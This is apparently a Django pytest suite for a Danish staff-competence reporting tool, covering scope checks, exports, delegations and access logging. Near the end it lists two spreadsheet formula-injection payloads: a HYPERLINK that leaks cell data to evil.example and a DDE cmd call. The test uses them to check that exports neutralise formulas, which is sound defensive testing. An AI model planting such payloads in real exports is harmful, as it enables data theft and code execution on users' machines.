"""Coverage pages and exports: scope checks, drill-down, exports equal the screen, access log."""

import csv
import datetime
import io
from html.parser import HTMLParser

import pytest
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from learning.competences.status import Status
from learning.organisations.factories import DelegationFactory
from learning.reports.models import AccessLog


class TableText(HTMLParser):
    """The text of every cell of one <table id=...>, row by row, as a browser would show it."""

    def __init__(self, table_id):
        super().__init__()
        self.table_id, self.inside, self.rows, self.cell = table_id, False, [], None

    def handle_starttag(self, tag, attrs):
        if tag == "table" and dict(attrs).get("id") == self.table_id:
            self.inside = True
        elif self.inside and tag == "tr":
            self.rows.append([])
        elif self.inside and tag in ("td", "th"):
            self.cell = ""

    def handle_endtag(self, tag):
        if tag == "table":
            self.inside = False
        elif self.inside and tag in ("td", "th") and self.cell is not None:
            self.rows[-1].append(" ".join(self.cell.split()))
            self.cell = None

    def handle_data(self, data):
        if self.cell is not None:
            self.cell += data


def screen_table(response, table_id):
    parser = TableText(table_id)
    parser.feed(response.content.decode())
    return parser.rows


# Every export starts with its caption, its filter line and a blank line, then the table.
PREAMBLE = 3


def csv_lines(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def csv_rows(response):
    return csv_lines(response)[PREAMBLE:]


def xlsx_lines(response):
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [
        [str(value) for value in row if value is not None]
        for row in sheet.iter_rows(values_only=True)
    ]


def xlsx_rows(response):
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = [[str(value) for value in row] for row in sheet.iter_rows(values_only=True)]
    return rows[PREAMBLE:]


@pytest.fixture
def hanne(client, manager, tree):
    client.force_login(manager)
    return client


def dashboard_url(**query):
    from django.utils.http import urlencode

    url = reverse("reports:dashboard")
    return f"{url}?{urlencode(query)}" if query else url


def test_the_manager_sees_her_units_coverage(hanne, tree):
    response = hanne.get(dashboard_url())
    assert response.status_code == 200
    rows = screen_table(response, "coverage")
    assert rows[1][:3] == ["Hjemmeplejen", str(tree["n3"]), "3"]
    assert "Hjørring" not in response.content.decode()


def test_the_manager_drills_down_from_her_unit_to_its_teams(hanne, tree):
    response = hanne.get(dashboard_url(unit=tree["home_care"].pk))
    assert {row[0] for row in screen_table(response, "coverage")[1:]} >= {"Team Nord", "Team Syd"}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_holds_exactly_the_table_on_screen(hanne, tree, fmt):
    query = {"unit": tree["home_care"].pk, "status": "overdue"}
    screen = screen_table(hanne.get(dashboard_url(**query)), "coverage")
    from django.utils.http import urlencode

    export = hanne.get(f"{reverse('reports:export', args=[fmt])}?{urlencode(query)}")
    assert export.status_code == 200 and "attachment" in export["Content-Disposition"]
    assert (csv_rows if fmt == "csv" else xlsx_rows)(export) == screen


def test_the_pdf_summary_is_a_pdf(hanne, tree):
    export = hanne.get(reverse("reports:export", args=["pdf"]))
    assert export.status_code == 200 and export.content.startswith(b"%PDF")


def test_an_unknown_export_format_is_not_found(hanne, tree):
    assert hanne.get(reverse("reports:export", args=["docx"])).status_code == 404


def test_the_people_export_equals_the_people_table(hanne, tree):
    url = reverse("reports:people", args=[tree["south"].pk])
    screen = screen_table(hanne.get(url), "people")
    export = hanne.get(reverse("reports:people_export", args=[tree["south"].pk, "csv"]))
    assert csv_rows(export) == screen


def test_the_people_drill_down_shows_each_persons_status(hanne, tree):
    response = hanne.get(reverse("reports:people", args=[tree["south"].pk]))
    rows = screen_table(response, "people")
    frida = next(row for row in rows if row[0].startswith("Frida"))
    with translation.override("da"):  # the pages are Danish first
        overdue = str(Status.OVERDUE.label)
    assert frida[3:] == [overdue, overdue]  # N3 then N8, by code


def test_a_manager_cannot_see_a_unit_outside_her_scope(hanne, tree):
    assert hanne.get(dashboard_url(unit=tree["other"].pk)).status_code == 404
    assert hanne.get(dashboard_url(unit=tree["municipality"].pk)).status_code == 404


def test_a_manager_cannot_drill_into_people_outside_her_scope(hanne, tree):
    assert hanne.get(reverse("reports:people", args=[tree["other"].pk])).status_code == 404


def test_a_manager_cannot_export_a_unit_outside_her_scope(hanne, tree):
    url = reverse("reports:export", args=["csv"]) + f"?unit={tree['other'].pk}"
    assert hanne.get(url).status_code == 404
    url = reverse("reports:people_export", args=[tree["other"].pk, "xlsx"])
    assert hanne.get(url).status_code == 404


def test_a_malformed_unit_id_is_not_found(hanne, tree):
    assert hanne.get(dashboard_url(unit="abc")).status_code == 404
    assert hanne.get(dashboard_url(unit=999999)).status_code == 404


def test_a_malformed_filter_falls_back_to_all(hanne, tree):
    response = hanne.get(dashboard_url(unit=tree["home_care"].pk, status="nonsense", role="x"))
    assert response.status_code == 200
    assert len(screen_table(response, "coverage")) > 2


def test_the_dashboard_refuses_post(hanne, tree):
    assert hanne.post(dashboard_url()).status_code == 405


def test_an_outsider_sees_nothing(client, outsider, tree):
    client.force_login(outsider)
    assert client.get(dashboard_url()).status_code == 403
    assert client.get(reverse("reports:export", args=["csv"])).status_code == 403
    assert client.get(reverse("reports:people", args=[tree["other"].pk])).status_code == 403
    assert client.get(reverse("reports:region")).status_code == 403


def test_an_anonymous_visitor_is_sent_to_log_in(client, tree):
    response = client.get(dashboard_url())
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


def test_a_deputy_sees_the_unit_while_the_delegation_runs(client, manager, tree):
    deputy = tree["people"]["emil"]
    DelegationFactory(unit=tree["home_care"], deputy=deputy, granted_by=manager)
    client.force_login(deputy)
    assert client.get(dashboard_url(unit=tree["south"].pk)).status_code == 200


def test_an_expired_delegation_stops_working(client, manager, tree):
    deputy = tree["people"]["emil"]
    today = datetime.date.today()
    DelegationFactory(
        unit=tree["home_care"],
        deputy=deputy,
        granted_by=manager,
        starts_on=today - datetime.timedelta(days=20),
        ends_on=today - datetime.timedelta(days=1),
    )
    client.force_login(deputy)
    assert client.get(dashboard_url()).status_code == 403
    assert client.get(reverse("reports:people", args=[tree["south"].pk])).status_code == 403


def test_viewing_a_persons_record_is_logged(hanne, manager, tree):
    frida = tree["people"]["frida"]
    response = hanne.get(reverse("reports:person", args=[frida.pk]))
    assert response.status_code == 200
    entry = AccessLog.objects.get(what="person")
    assert (entry.viewer, entry.person) == (manager, frida)


def test_a_manager_cannot_view_a_person_outside_her_scope(hanne, outsider, tree):
    assert hanne.get(reverse("reports:person", args=[outsider.pk])).status_code == 404
    assert hanne.get(reverse("reports:person", args=[999999])).status_code == 404
    assert not AccessLog.objects.exists()


def test_the_person_page_leaves_out_another_employers_requirements(hanne, tree):
    response = hanne.get(reverse("reports:person", args=[tree["people"]["ida"].pk]))
    assert str(tree["n8"]) in response.content.decode()
    assert str(tree["n1"]) not in response.content.decode()


def test_the_people_list_logs_one_entry_per_person_shown(hanne, tree):
    hanne.get(reverse("reports:people", args=[tree["south"].pk]))
    assert AccessLog.objects.filter(what="people_list").count() == 4


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_filtered_export_states_its_filter_and_an_unfiltered_one_says_none(hanne, tree, fmt):
    lines = csv_lines if fmt == "csv" else xlsx_lines
    url = reverse("reports:people_export", args=[tree["south"].pk, fmt])
    with translation.override("da"):
        overdue = str(Status.OVERDUE.label)
    filtered = lines(hanne.get(f"{url}?status=overdue&role={tree['ssa'].pk}"))
    assert filtered[0] == ["Status pr. person og kompetence i Team Syd"]
    assert filtered[1] == [f"Filter: Stilling: {tree['ssa'].name}; Status: {overdue}"]
    assert lines(hanne.get(url))[1] == ["Filter: ingen"]
    dashboard = lines(
        hanne.get(reverse("reports:export", args=[fmt]) + "?competence=" + str(tree["n3"].pk))
    )
    assert dashboard[1] == [f"Filter: Kompetence: {tree['n3']}"]


def test_the_pdf_states_its_filter(hanne, tree):
    from tests.pdf_text import pdf_text

    url = reverse("reports:export", args=["pdf"]) + "?status=overdue"
    text = pdf_text(hanne.get(url).content)
    assert "Filter: Status: Overskredet" in text


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Se status")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("payload", FORMULAS)
def test_a_roster_name_that_is_a_formula_arrives_as_inert_text(hanne, tree, payload):
    frida = tree["people"]["frida"]
    frida.first_name = payload
    frida.save()

    def export(fmt):
        return hanne.get(reverse("reports:people_export", args=[tree["south"].pk, fmt]))

    rows = csv_rows(export("csv"))
    assert any(row[0].startswith("'" + payload) for row in rows), rows
    workbook = export("xlsx").content
    import zipfile

    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    cells = [c for row in load_workbook(io.BytesIO(workbook)).active.iter_rows() for c in row]
    named = [c for c in cells if isinstance(c.value, str) and c.value.startswith(payload)]
    assert named and all(c.data_type == "s" for c in named)


def test_every_manager_page_links_to_the_others(hanne, tree):
    pages = [
        reverse("reports:dashboard"),
        reverse("competences:staff"),
        reverse("competences:requirements"),
        reverse("manage_org:delegations"),
    ]
    for url in pages:
        html = hanne.get(url).content.decode()
        nav = html.split('class="manager-nav"')[1].split("</nav>")[0]
        for other in pages:
            assert f'href="{other}"' in nav, (url, other)
        assert f'href="{url}" aria-current="page"' in nav


def test_the_labels_say_what_they_count(hanne, tree):
    with translation.override("da"):
        coverage = screen_table(hanne.get(dashboard_url()), "coverage")
        people = screen_table(
            hanne.get(reverse("reports:people", args=[tree["south"].pk])), "people"
        )
    header = coverage[0]
    assert "Andel der har den, inkl. udløber snart (%)" in header
    assert "Opfyldt, gyldig over 90 dage" in header
    assert coverage[-1][1] == "Alle kompetencer (personer × kompetencer)"
    total = people[-1]
    # Team Syd: Emil, Frida, Gustav, Hans (4 people); N3 applies to the 3 SSAs, Gustav holds it.
    assert total[:3] == ["I alt: 4 personer", "–", "–"]
    assert total[3] == "1 af 3 har den"


def test_the_filters_offer_active_roles_and_required_competences_each_once(hanne, tree):
    """The choices come from one query (``forms.filter_choices``); a role no longer in use is
    not offered, yet a person still holding it shows it on the people page."""
    from learning.competences.factories import CompetenceFactory

    CompetenceFactory(code="X9", name="Kræves ikke")  # no requirement asks for it
    tree["leader"].is_active = False
    tree["leader"].save()
    page = hanne.get(reverse("reports:people", args=[tree["south"].pk]))
    form = page.context["form"]
    roles = [label for _pk, label in form.fields["role"].choices]
    assert roles[0] == "Alle stillinger" and roles[1:] == sorted(roles[1:])
    assert {tree[key].name for key in ("ssa", "ssh", "nurse")} <= set(roles)
    assert "Leder" not in roles
    competences = [label for _pk, label in form.fields["competence"].choices][1:]
    assert sorted(competences) == sorted({str(tree[code]) for code in ("n1", "n3", "n8")})
    assert len(competences) == 3  # N8 is asked by three requirements, offered once
    hans = next(row for row in screen_table(page, "people") if row[0].startswith("Hans"))
    assert hans[2] == "Leder"
    filtered = hanne.get(
        reverse("reports:people", args=[tree["south"].pk]), {"role": tree["leader"].pk}
    )
    assert len(screen_table(filtered, "people")) > 3  # an inactive role filters nothing out
